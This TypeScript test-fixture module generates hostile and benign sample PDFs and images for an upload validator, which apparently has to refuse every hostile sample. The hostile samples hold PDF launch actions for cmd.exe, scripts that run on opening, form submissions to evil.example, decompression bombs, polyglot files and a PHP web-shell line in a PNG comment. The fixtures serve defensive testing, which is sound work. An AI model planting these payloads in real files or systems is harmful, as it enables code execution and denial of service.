import { deflateSync, gzipSync } from 'node:zlib'
import sharp from 'sharp'
import { drawnPdf, flate, objectStream, PAGE, pdfOf, type SampleObject, streamOf } from './sample-pdf.ts'

export interface SampleFile {
  readonly what: string
  readonly name: string
  readonly content: Buffer
}

const MB = 1024 * 1024
const text = (value: string): Buffer => Buffer.from(value, 'latin1')

/** A picture with something to see in it. */
export const picture = (width = 640, height = 400, channels: 3 | 4 = 3) =>
  sharp(
    Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" width="${width}" height="${height}">
    <rect width="100%" height="100%" fill="#dfe7f2"/><circle cx="120" cy="140" r="70" fill="#5a6b85"/>
    <path d="M230 90h300v24H230zM230 150h220v24H230zM230 210h260v24H230z" fill="#23304a"/></svg>`),
  )
    .ensureAlpha()
    .removeAlpha()
    .toColourspace('srgb')
    .ensureAlpha(channels === 4 ? 0.8 : 1)

const jpegOf = (width?: number, height?: number) => picture(width, height).flatten().jpeg().toBuffer()

const crcTable = Uint32Array.from({ length: 256 }, (_, n) => {
  let c = n
  for (let k = 0; k < 8; k += 1) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1
  return c >>> 0
})
const crc = (bytes: Buffer): number => {
  let c = 0xffffffff
  for (const byte of bytes) c = (crcTable[(c ^ byte) & 0xff] ?? 0) ^ (c >>> 8)
  return (c ^ 0xffffffff) >>> 0
}
const chunk = (type: string, data: Buffer): Buffer => {
  const body = Buffer.concat([text(type), data])
  const out = Buffer.alloc(body.length + 8)
  out.writeUInt32BE(data.length)
  body.copy(out, 4)
  out.writeUInt32BE(crc(body), body.length + 4)
  return out
}
/** A PNG that claims a size and packs nothing but zeros. */
const pngClaiming = (width: number, height: number, zeros: number): Buffer => {
  const head = Buffer.alloc(13)
  head.writeUInt32BE(width)
  head.writeUInt32BE(height, 4)
  head[8] = 8
  return Buffer.concat([
    text('\x89PNG\r\n\x1a\n'),
    chunk('IHDR', head),
    chunk('IDAT', deflateSync(Buffer.alloc(zeros), { level: 9 })),
    chunk('IEND', Buffer.alloc(0)),
  ])
}

const zipOf = (name: string, content: Buffer): Buffer => {
  const local = Buffer.alloc(30)
  local.write('PK\x03\x04', 'latin1')
  local.writeUInt32LE(crc(content), 14)
  local.writeUInt32LE(content.length, 18)
  local.writeUInt32LE(content.length, 22)
  local.writeUInt16LE(name.length, 26)
  const central = Buffer.alloc(46)
  central.write('PK\x01\x02', 'latin1')
  central.writeUInt32LE(content.length, 20)
  central.writeUInt16LE(name.length, 28)
  const end = Buffer.alloc(22)
  end.write('PK\x05\x06', 'latin1')
  return Buffer.concat([local, text(name), content, central, text(name), end])
}

const with_ = (...more: SampleObject[]): Buffer => pdfOf([...PAGE, ...more])
const catalog = (entries: string): SampleObject => ({
  number: 1,
  value: `<< /Type /Catalog /Pages 2 0 R ${entries} >>`,
})
const pdfWith = (entries: string, ...more: SampleObject[]): Buffer =>
  pdfOf([catalog(entries), ...PAGE.slice(1), ...more])

const JS = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'

const hostilePdfs = (): SampleFile[] => [
  { what: 'a script on opening', name: 'a.pdf', content: pdfWith(`/OpenAction ${JS}`) },
  {
    what: 'a script behind a reference',
    name: 'b.pdf',
    content: pdfWith('/OpenAction 9 0 R', { number: 9, value: JS }),
  },
  {
    what: 'a script with escaped letters',
    name: 'c.pdf',
    content: pdfWith('/OpenAction << /S /J#61va#53cript /J#53 (x) >>'),
  },
  {
    what: 'a script in an object stream',
    name: 'd.pdf',
    content: pdfWith('/OpenAction 9 0 R', objectStream(8, [{ number: 9, value: JS }])),
  },
  {
    what: 'an escaped script in an object stream',
    name: 'e.pdf',
    content: with_(objectStream(8, [{ number: 9, value: '<< /S /#4aavaScript /J#53 (x) >>' }])),
  },
  {
    what: 'an object stream without its type',
    name: 'f.pdf',
    content: with_(flate(8, `9 0 ${JS}`, '/N 1 /First 4')),
  },
  {
    what: 'an object stream under two filters',
    name: 'g.pdf',
    content: with_(
      streamOf(8, `9 0 ${JS}`, '/Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode]', (bytes) =>
        deflateSync(deflateSync(bytes)),
      ),
    ),
  },
  {
    what: 'an object stream that predicts',
    name: 'h.pdf',
    content: with_(flate(8, `9 0 ${JS}`, '/Type /ObjStm /N 1 /First 4 /DecodeParms << /Predictor 12 >>')),
  },
  {
    what: 'the kind of an action as an object of its own',
    name: 'i.pdf',
    content: with_({ number: 8, value: '<< /S 9 0 R /F (calc.exe) >>' }, { number: 9, value: '/Launch' }),
  },
  {
    what: 'a program to start',
    name: 'j.pdf',
    content: with_({ number: 9, value: '<< /S /Launch /F (cmd.exe) >>' }),
  },
  {
    what: 'an attached file',
    name: 'k.pdf',
    content: pdfWith(
      '/Names << /EmbeddedFiles << /Names [(x) 9 0 R] >> >>',
      { number: 9, value: '<< /Type /Filespec /F (x.exe) /EF << /F 8 0 R >> >>' },
      streamOf(8, 'MZ', '/Type /EmbeddedFile'),
    ),
  },
  {
    what: 'a form program (XFA)',
    name: 'l.pdf',
    content: pdfWith('/AcroForm << /XFA 9 0 R >>', streamOf(9, '<xdp/>')),
  },
  {
    what: 'a form that sends itself',
    name: 'm.pdf',
    content: with_({ number: 9, value: '<< /S /SubmitForm /F (https://evil.example) >>' }),
  },
  { what: 'actions of a page', name: 'n.pdf', content: pdfWith(`/AA << /WC ${JS} >>`) },
  {
    what: 'another file to go to',
    name: 'o.pdf',
    content: with_({ number: 9, value: '<< /S /GoToR /F (//evil/x) >>' }),
  },
  { what: 'rich media', name: 'p.pdf', content: with_({ number: 9, value: '<< /Subtype /RichMedia >>' }) },
  {
    what: 'a web page on opening',
    name: 'q.pdf',
    content: pdfWith('/OpenAction << /S /URI /URI (https://evil.example) >>'),
  },
  {
    what: 'a stream of another file',
    name: 'r.pdf',
    content: with_(streamOf(9, '', '/F (//evil.example/share)')),
  },
  {
    what: 'encryption',
    name: 's.pdf',
    content: pdfOf(PAGE, '/Root 1 0 R /Encrypt << /Filter /Standard /V 1 >>'),
  },
  {
    what: 'an object hidden in a string',
    name: 't.pdf',
    content: with_({ number: 9, value: `(\n1 0 obj << /Type /Catalog /OpenAction 8 0 R >> endobj )` }),
  },
  {
    what: 'an object hidden in a stream',
    name: 'u.pdf',
    content: with_(streamOf(9, `\n1 0 obj << /Type /Catalog >> endobj\n`)),
  },
  {
    what: 'an object hidden in a comment',
    name: 'v.pdf',
    content: Buffer.concat([pdfOf(PAGE), text(`% 1 0 obj << /Type /Catalog >> endobj\n%%EOF\n`)]),
  },
  {
    what: 'a stream that says it is longer',
    name: 'w.pdf',
    content: with_({ number: 9, value: '<< /Length 900 >>', stream: text('short') }),
  },
  {
    what: 'a key that stands twice',
    name: 'x.pdf',
    content: pdfWith('/OpenAction [3 0 R /Fit] /OpenAction null'),
  },
  {
    what: 'a bomb',
    name: 'y.pdf',
    content: with_(...Array.from({ length: 8 }, (_, n) => flate(9 + n, Buffer.alloc(45 * MB)))),
  },
  {
    what: 'a bomb in an object stream',
    name: 'z.pdf',
    content: with_(flate(9, Buffer.alloc(20 * MB, 32), '/Type /ObjStm /N 1 /First 4')),
  },
  {
    what: 'a picture of a billion pixels',
    name: 'aa.pdf',
    content: with_(streamOf(9, 'x', '/Subtype /Image /Width 40000 /Height 40000 /Filter /CCITTFaxDecode')),
  },
  { what: 'brackets without an end', name: 'ab.pdf', content: with_({ number: 9, value: '['.repeat(5000) }) },
  {
    what: 'objects read over and over',
    name: 'ac.pdf',
    content: with_(
      flate(
        9,
        `${'9 0 '.repeat(20_000)}[${'0 '.repeat(60_000)}]`,
        `/Type /ObjStm /N 20000 /First ${20_000 * 4}`,
      ),
    ),
  },
  {
    what: 'a thousand pages',
    name: 'ad.pdf',
    content: with_(...Array.from({ length: 60 }, (_, n) => ({ number: 10 + n, value: '<< /Type /Page >>' }))),
  },
  { what: 'a cut-off end', name: 'ae.pdf', content: pdfOf(PAGE).subarray(0, 200) },
  { what: 'only a header', name: 'af.pdf', content: text('%PDF-1.7\n%%EOF\n') },
  {
    what: 'something before the header',
    name: 'ag.pdf',
    content: Buffer.concat([text('<html>'), pdfOf(PAGE)]),
  },
  {
    what: 'an archive behind it',
    name: 'ah.pdf',
    content: Buffer.concat([pdfOf(PAGE), zipOf('x.exe', text('MZ'))]),
  },
  {
    what: 'an older revision with a script',
    name: 'ai.pdf',
    content: Buffer.concat([
      pdfOf([...PAGE, { number: 9, value: JS }]),
      text('9 0 obj\nnull\nendobj\ntrailer\n<< /Root 1 0 R >>\nstartxref\n0\n%%EOF\n'),
    ]),
  },
]

const hostilePictures = async (): Promise<SampleFile[]> => {
  const jpeg = await jpegOf()
  const png = await picture().png().toBuffer()
  const webp = await picture().webp().toBuffer()
  return [
    {
      what: 'a page under the name of a picture',
      name: 'a.png',
      content: text('<html><script>alert(1)</script></html>'),
    },
    {
      what: 'SVG',
      name: 'b.svg',
      content: text('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
    },
    {
      what: 'SVG under the name of a PNG',
      name: 'c.png',
      content: text('<?xml version="1.0"?><svg onload="x"/>'),
    },
    { what: 'a GIF', name: 'd.gif', content: await picture().gif().toBuffer() },
    { what: 'a TIFF under the name of a JPEG', name: 'e.jpg', content: await picture().tiff().toBuffer() },
    { what: 'an archive', name: 'f.zip', content: zipOf('x.exe', text('MZ')) },
    { what: 'a packed bomb', name: 'g.png', content: gzipSync(Buffer.alloc(50 * MB)) },
    { what: 'a program', name: 'h.jpg', content: Buffer.concat([text('MZ'), Buffer.alloc(400)]) },
    { what: 'nothing', name: 'i.png', content: Buffer.alloc(0) },
    { what: 'only a head', name: 'j.jpg', content: jpeg.subarray(0, 20) },
    { what: 'half a JPEG', name: 'k.jpg', content: jpeg.subarray(0, Math.floor(jpeg.length / 2)) },
    { what: 'half a PNG', name: 'l.png', content: png.subarray(0, Math.floor(png.length / 2)) },
    { what: 'half a WebP', name: 'm.webp', content: webp.subarray(0, Math.floor(webp.length / 2)) },
    { what: 'a PNG of 900 million pixels', name: 'n.png', content: pngClaiming(30_000, 30_000, 1000) },
    {
      what: 'a PNG that claims the largest size',
      name: 'o.png',
      content: pngClaiming(0x7fffffff, 0x7fffffff, 1000),
    },
    { what: 'a PNG that packs far less than it claims', name: 'p.png', content: pngClaiming(4000, 4000, 10) },
    { what: 'a PNG without a pixel', name: 'q.png', content: pngClaiming(0, 0, 0) },
    {
      what: 'a JPEG with an archive behind it',
      name: 'r.jpg',
      content: Buffer.concat([jpeg, zipOf('x.exe', text('MZ'))]),
    },
    {
      what: 'a JPEG with a script behind it',
      name: 's.jpg',
      content: Buffer.concat([jpeg, text('<script>alert(1)</script>')]),
    },
    {
      what: 'a PNG with a program in its text',
      name: 't.png',
      content: Buffer.concat([
        png.subarray(0, 33),
        chunk('tEXt', text('Comment\0<?php system($_GET[1]); ?>')),
        png.subarray(33),
      ]),
    },
    {
      what: 'a JPEG that is a PDF too',
      name: 'u.jpg',
      content: Buffer.concat([
        jpeg.subarray(0, 2),
        text('\xff\xfe\x00\x10%PDF-1.7\n1234'),
        jpeg.subarray(2),
        pdfOf(PAGE),
      ]),
    },
    {
      what: 'noise behind a JPEG’s first bytes',
      name: 'v.jpg',
      content: Buffer.concat([text('\xff\xd8\xff\xe0'), Buffer.alloc(3000, 0x5a)]),
    },
    {
      what: 'noise behind a WebP’s first bytes',
      name: 'w.webp',
      content: Buffer.concat([text('RIFF\x10\0\0\0WEBPVP8 '), Buffer.alloc(300, 7)]),
    },
  ]
}

/** Every one must be refused. */
export const hostileFiles = async (): Promise<SampleFile[]> => [
  ...hostilePdfs(),
  ...(await hostilePictures()),
]

const benignPictures = async (): Promise<SampleFile[]> => {
  const jpeg = await jpegOf()
  const noise = sharp({
    create: {
      width: 1500,
      height: 1000,
      channels: 3,
      background: '#888',
      noise: { type: 'gaussian', mean: 128, sigma: 40 },
    },
  })
  return [
    { what: 'a JPEG', name: 'a.jpg', content: jpeg },
    { what: 'a PNG', name: 'b.png', content: await picture().png().toBuffer() },
    {
      what: 'a PNG that shines through',
      name: 'c.png',
      content: await picture(640, 400, 4).png().toBuffer(),
    },
    {
      what: 'a PNG with a palette',
      name: 'd.png',
      content: await picture().png({ palette: true }).toBuffer(),
    },
    { what: 'a grey JPEG', name: 'e.jpg', content: await picture().flatten().grayscale().jpeg().toBuffer() },
    {
      what: 'a progressive JPEG',
      name: 'f.jpg',
      content: await picture().flatten().jpeg({ progressive: true }).toBuffer(),
    },
    {
      what: 'a JPEG for print',
      name: 'g.jpg',
      content: await picture().flatten().toColourspace('cmyk').jpeg().toBuffer(),
    },
    { what: 'a WebP', name: 'h.webp', content: await picture().webp().toBuffer() },
    {
      what: 'a WebP without loss',
      name: 'i.webp',
      content: await picture().webp({ lossless: true }).toBuffer(),
    },
    { what: 'a JPEG under the name of a PNG', name: 'j.png', content: jpeg },
    { what: 'a JPEG without an ending', name: 'scan', content: jpeg },
    {
      what: 'a JPEG that lies on its side',
      name: 'k.jpg',
      content: await picture().flatten().withMetadata({ orientation: 6 }).jpeg().toBuffer(),
    },
    {
      what: 'a JPEG with a place and a name in it',
      name: 'l.jpg',
      content: await picture()
        .flatten()
        .withExif({ IFD0: { Artist: 'Asha Secret' }, IFD3: { GPSLatitudeRef: 'N' } })
        .jpeg()
        .toBuffer(),
    },
    {
      what: 'a JPEG with a telephone’s own data behind it',
      name: 'm.jpg',
      content: Buffer.concat([jpeg, text('\0\0\x01\x0aImage_UTC_Data1763712000000SEFHj\0\0\0SEFT')]),
    },
    { what: 'a photograph of 12 million pixels', name: 'n.jpg', content: await jpegOf(4000, 3000) },
    { what: 'a noisy PNG of 4 MB', name: 'o.png', content: await noise.png().toBuffer() },
    { what: 'a name in Hindi', name: 'आधार कार्ड.jpg', content: jpeg },
    {
      what: 'a picture of one pixel',
      name: 'p.png',
      content: await sharp({ create: { width: 1, height: 1, channels: 3, background: '#fff' } })
        .png()
        .toBuffer(),
    },
  ]
}

const benignPdfs = async (): Promise<SampleFile[]> => {
  const jpeg = await jpegOf()
  return [
    { what: 'the smallest PDF', name: 'a.pdf', content: pdfOf(PAGE) },
    {
      what: 'a drawn PDF',
      name: 'b.pdf',
      content: await drawnPdf((pdf) => void pdf.text('Licence').addPage().text('2')),
    },
    {
      what: 'a PDF without packing',
      name: 'c.pdf',
      content: await drawnPdf((pdf) => void pdf.text('Licence'), { compress: false }),
    },
    {
      what: 'a PDF with a scan',
      name: 'd.pdf',
      content: await drawnPdf((pdf) => void pdf.image(jpeg, 20, 20, { width: 300 })),
    },
    {
      what: 'a PDF with a link',
      name: 'e.pdf',
      content: await drawnPdf((pdf) => void pdf.text('gov.in', { link: 'https://www.india.gov.in' })),
    },
    {
      what: 'a PDF that opens at its first page',
      name: 'f.pdf',
      content: pdfWith('/OpenAction [3 0 R /XYZ null null 0]'),
    },
    {
      what: 'a PDF that goes to a page',
      name: 'g.pdf',
      content: pdfWith('/OpenAction 9 0 R', { number: 9, value: '<< /S /GoTo /D [3 0 R /Fit] >>' }),
    },
    {
      what: 'a PDF whose pages lie in an object stream',
      name: 'h.pdf',
      content: pdfOf([
        { number: 1, value: '<< /Type /Catalog /Pages 2 0 R >>' },
        objectStream(8, [
          { number: 2, value: '<< /Type /Pages /Kids [3 0 R] /Count 1 >>' },
          { number: 3, value: '<< /Type /Page /Parent 2 0 R >>' },
        ]),
      ]),
    },
    {
      what: 'a PDF that was changed and saved again',
      name: 'i.pdf',
      content: Buffer.concat([
        pdfOf(PAGE),
        text(
          '3 0 obj\n<< /Type /Page /Parent 2 0 R /Rotate 90 >>\nendobj\nxref\n3 1\n0000000500 00000 n \ntrailer\n<< /Root 1 0 R /Prev 200 >>\nstartxref\n600\n%%EOF\n',
        ),
      ]),
    },
    {
      what: 'a PDF in text alone (ASCII85)',
      name: 'j.pdf',
      content: with_(streamOf(9, '9jqo^BlbD-BleB1DJ+*+F(f,q~>', '/Filter [/ASCII85Decode]')),
    },
    {
      what: 'a PDF whose length is an object of its own',
      name: 'k.pdf',
      content: with_(
        { number: 9, value: '<< /Length 10 0 R >>', stream: text('BT ET') },
        { number: 10, value: '5' },
      ),
    },
    {
      what: 'a PDF with line ends of Windows',
      name: 'l.pdf',
      content: Buffer.from(pdfOf(PAGE).toString('latin1').replaceAll('\n', '\r\n'), 'latin1'),
    },
    {
      what: 'a typeface named Sound',
      name: 'm.pdf',
      content: with_({ number: 9, value: '<< /Type /Font /BaseFont /Sound >>' }),
    },
  ]
}

/** Every one must be kept. */
export const benignFiles = async (): Promise<SampleFile[]> => [
  ...(await benignPictures()),
  ...(await benignPdfs()),
]
